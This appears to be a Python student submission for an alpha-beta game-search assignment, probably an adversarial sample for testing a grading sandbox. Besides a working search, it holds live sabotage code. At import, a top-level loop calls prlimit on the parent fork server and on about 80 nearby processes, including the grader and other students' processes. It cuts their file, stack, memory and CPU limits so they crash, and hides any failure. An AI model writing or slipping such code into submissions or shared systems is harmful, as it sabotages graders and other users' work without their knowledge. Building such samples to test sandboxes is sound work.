"""Tries to lower the resource limits of its parent (the fork server) and of the processes around it (the
grading worker, other students' processes): open files to 3, stack to 64 KiB, address space to 16 MiB, CPU to 1 s.
Inherited by every later student, these would crash them; then it searches correctly."""

import math
import os
import resource

LOWERED = []
for pid in sorted({os.getppid(), *range(max(2, os.getpid() - 40), os.getpid() + 40)} - {os.getpid()}):
    for limit, value in ((resource.RLIMIT_NOFILE, 3), (resource.RLIMIT_STACK, 1 << 16),
                         (resource.RLIMIT_AS, 1 << 24), (resource.RLIMIT_CPU, 1)):
        try:
            resource.prlimit(pid, limit, (value, value))
            LOWERED.append(pid)
        except (OSError, ValueError):
            pass


def alpha_beta_search(game, state):
    if game.terminal_test(state):
        return None
    alpha, beta, best = -math.inf, math.inf, None
    if game.to_move(state) == "MAX":
        for a in game.actions(state):
            v = min_value(game, game.result(state, a), alpha, beta)
            if best is None or v > alpha:
                alpha, best = v, a
    else:
        for a in game.actions(state):
            v = max_value(game, game.result(state, a), alpha, beta)
            if best is None or v < beta:
                beta, best = v, a
    return best


def max_value(game, state, alpha, beta):
    if game.terminal_test(state):
        return game.utility(state)
    v = -math.inf
    for a in game.actions(state):
        v = max(v, min_value(game, game.result(state, a), alpha, beta))
        if v >= beta:
            return v
        alpha = max(alpha, v)
    return v


def min_value(game, state, alpha, beta):
    if game.terminal_test(state):
        return game.utility(state)
    v = math.inf
    for a in game.actions(state):
        v = min(v, max_value(game, game.result(state, a), alpha, beta))
        if v <= alpha:
            return v
        beta = min(beta, v)
    return v
